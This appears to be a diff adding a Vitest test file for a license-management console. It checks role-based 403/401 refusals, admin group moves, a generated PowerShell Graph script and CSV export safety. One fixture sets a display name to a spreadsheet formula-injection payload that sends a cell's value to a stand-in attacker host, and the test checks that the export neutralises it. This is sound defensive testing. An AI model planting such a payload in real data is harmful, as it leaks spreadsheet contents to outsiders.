@@ -1,0 +1,156 @@
+/**
+ * Who may do what on the report, Users, Groups and Requests pages: a Reports reader reads and
+ * exports (CSV, commands), and every change answers 403 and writes nothing — the server actions and
+ * the route handlers alike. A Global admin's changes go through. The CSV neutralises formulas.
+ */
+import { parse } from "csv-parse/sync";
+import { NextRequest } from "next/server";
+import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
+import type { AppUser } from "@/server/auth/users";
+import { findActiveUserById } from "@/server/auth/users";
+import { createUser } from "../factories";
+import { createClaim, createReportWorld, type ReportWorld } from "../report-world";
+import { useAppDb } from "../setup/app-db";
+import { useTestDb } from "../setup/db";
+
+const session = vi.hoisted(() => ({ user: null as AppUser | null }));
+vi.mock("@/server/auth/guards", () => ({ getCurrentUser: async () => session.user }));
+vi.mock("next/cache", () => ({ revalidatePath: () => {} }));
+
+const report = await import("@/app/(console)/billing/licenses/auto-claim/[id]/report/actions");
+const users = await import("@/app/(console)/users/actions");
+const groups = await import("@/app/(console)/groups/actions");
+const requests = await import("@/app/(console)/billing/licenses/requests/actions");
+const csvRoute = await import("@/app/api/exports/policies/[policyId]/report/route");
+const commandsRoute = await import("@/app/api/exports/policies/[policyId]/commands/route");
+
+const t = useTestDb();
+let w: ReportWorld;
+let admin: AppUser;
+let reader: AppUser;
+let plainUser: AppUser;
+let requestId: string;
+
+beforeAll(async () => {
+  useAppDb(t.db);
+  w = await createReportWorld(t.prisma, { people: 4 });
+  const evil = await createUser(t.prisma, w.tenant, { displayName: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', givenName: "Evil" });
+  await createClaim(t.prisma, w, evil.id, w.productId);
+  const readerRow = await createUser(t.prisma, w.tenant, { givenName: "Rhea", role: "REPORTS_READER" });
+  const userRow = await createUser(t.prisma, w.tenant, { givenName: "Plain" });
+  admin = (await findActiveUserById(t.prisma, w.admin.id))!;
+  reader = (await findActiveUserById(t.prisma, readerRow.id))!;
+  plainUser = (await findActiveUserById(t.prisma, userRow.id))!;
+  const launch = await t.prisma.launch.create({
+    data: { tenantId: w.tenantId, userId: userRow.id, appId: w.appId, environmentId: w.environmentId, kind: "APP_LAUNCH", decision: "DENY", reason: "NO_LICENSES_AVAILABLE", policyId: w.policyId },
+  });
+  requestId = (await t.prisma.licenseRequest.create({ data: { tenantId: w.tenantId, userId: userRow.id, appId: w.appId, launchId: launch.id } })).id;
+});
+
+beforeEach(() => {
+  session.user = reader;
+});
+
+async function state() {
+  const [assignments, members, requestRows, audits, consumed] = await Promise.all([
+    t.prisma.licenseAssignment.findMany({ where: { tenantId: w.tenantId }, orderBy: { id: "asc" }, select: { id: true, source: true } }),
+    t.prisma.groupMember.findMany({ where: { groupId: w.groupId }, orderBy: { userId: "asc" } }),
+    t.prisma.licenseRequest.findMany({ where: { tenantId: w.tenantId }, select: { id: true, status: true } }),
+    t.prisma.auditEntry.count({ where: { tenantId: w.tenantId } }),
+    t.prisma.product.findUniqueOrThrow({ where: { id: w.productId }, select: { consumedUnits: true } }),
+  ]);
+  return { assignments, members, requestRows, audits, consumed };
+}
+
+const csvRequest = (query = "") => csvRoute.GET(new NextRequest(`http://localhost/api/exports/policies/${w.policyId}/report${query}`), { params: Promise.resolve({ policyId: w.policyId }) });
+const commandsRequest = (form: Record<string, string>) =>
+  commandsRoute.POST(new NextRequest(`http://localhost/api/exports/policies/${w.policyId}/commands`, { method: "POST", body: new URLSearchParams(form) }), {
+    params: Promise.resolve({ policyId: w.policyId }),
+  });
+
+describe("a Reports reader", () => {
+  it("gets 403 from every change, and nothing is written", async () => {
+    const before = await state();
+    const ids = w.claims.slice(0, 2).map((c) => c.id);
+    const other = w.users[3];
+    const results = [
+      await report.unassignLicensesAction({ policyId: w.policyId, selection: { kind: "ids", ids } }),
+      await report.moveToGroupAction({ policyId: w.policyId, groupId: w.groupId, selection: { kind: "ids", ids } }),
+      await report.moveToGroupAction({ policyId: w.policyId, groupId: w.groupId, selection: { kind: "filter", filter: { range: "all", q: "" }, asOf: new Date().toISOString() } }),
+      await users.assignUserLicenseAction({ userId: plainUser.id, productId: w.productId }),
+      await users.unassignUserLicenseAction({ userId: other.id, productId: w.productId }),
+      await groups.addGroupMemberAction({ groupId: w.groupId, user: other.userPrincipalName }),
+      await groups.removeGroupMemberAction({ groupId: w.groupId, userId: other.id }),
+      await requests.approveRequestAction({ requestId, productId: w.productId }),
+      await requests.denyRequestAction({ requestId, decisionMessage: "no" }),
+    ];
+    for (const result of results) expect(result).toMatchObject({ ok: false, status: 403 });
+    // A form post (FormData) is refused the same way.
+    const form = new FormData();
+    form.set("userId", plainUser.id);
+    form.set("productId", w.productId);
+    expect(await users.assignUserLicenseAction(null, form)).toMatchObject({ ok: false, status: 403 });
+    expect(await state()).toEqual(before);
+  });
+
+  it("exports the CSV (200, streamed, a hostile display name neutralised)", async () => {
+    const response = await csvRequest("?range=all");
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="auto-claim-report-makers-policy-all-time-\d{4}-\d{2}-\d{2}\.csv"/);
+    const bytes = new Uint8Array(await response.arrayBuffer());
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the UTF-8 byte-order mark
+    const text = new TextDecoder().decode(bytes);
+    const rows: string[][] = parse(text, { bom: true });
+    expect(rows).toHaveLength(1 + 5);
+    const evil = rows.find((r) => r[0].includes("HYPERLINK"))!;
+    expect(evil[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`);
+    expect(rows.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
+  });
+
+  it("downloads the commands script with the real ids", async () => {
+    const response = await commandsRequest({ ids: w.claims.slice(0, 2).map((c) => c.id).join(","), groupId: w.groupId });
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-disposition")).toMatch(/filename="move-to-group-makers-policy-/);
+    const script = await response.text();
+    const sku = (await t.prisma.product.findUniqueOrThrow({ where: { id: w.productId } })).skuId;
+    expect(script).toContain("Connect-MgGraph -Scopes User.ReadWrite.All,GroupMember.ReadWrite.All");
+    expect(script).toContain(`$GroupId = '${w.groupId}'`);
+    expect(script).toContain("New-MgGroupMember -GroupId $GroupId -DirectoryObjectId $p.Id");
+    expect(script).toContain("Set-MgUserLicense -UserId $p.Id -AddLicenses @() -RemoveLicenses @($p.SkuId)");
+    for (const claim of w.claims.slice(0, 2)) expect(script).toContain(`Id = '${claim.userId}'; `);
+    expect(script).toContain(`SkuId = '${sku}'`);
+    expect(script).not.toContain(w.claims[2].userId);
+  });
+});
+
+describe("other callers", () => {
+  it("a User gets 403 from the exports, and a signed-out caller 401", async () => {
+    session.user = plainUser;
+    expect((await csvRequest()).status).toBe(403);
+    expect((await commandsRequest({ all: "1" })).status).toBe(403);
+    session.user = null;
+    expect((await csvRequest()).status).toBe(401);
+    expect(await report.unassignLicensesAction({ policyId: w.policyId, selection: { kind: "ids", ids: [w.claims[0].id] } })).toMatchObject({ ok: false, status: 401 });
+  });
+
+  it("an unknown policy is 404", async () => {
+    const missing = "00000000-0000-4000-8000-000000000000";
+    const response = await csvRoute.GET(new NextRequest(`http://localhost/api/exports/policies/${missing}/report`), { params: Promise.resolve({ policyId: missing }) });
+    expect(response.status).toBe(404);
+  });
+
+  it("a Global admin moves people to the group, and the consumed count does not change", async () => {
+    session.user = admin;
+    const before = await state();
+    const result = await report.moveToGroupAction({ policyId: w.policyId, groupId: w.groupId, selection: { kind: "ids", ids: [w.claims[0].id] } });
+    expect(result).toMatchObject({ ok: true, data: { done: 1 } });
+    expect((await state()).consumed).toEqual(before.consumed);
+  });
+
+  it("a Global admin gets field errors for a bad group, beside the field", async () => {
+    session.user = admin;
+    const result = await report.moveToGroupAction({ policyId: w.policyId, groupId: "nope", selection: { kind: "ids", ids: [w.claims[1].id] } });
+    expect(result).toMatchObject({ ok: false, status: 400, fieldErrors: { groupId: ["Choose a group."] } });
+  });
+});
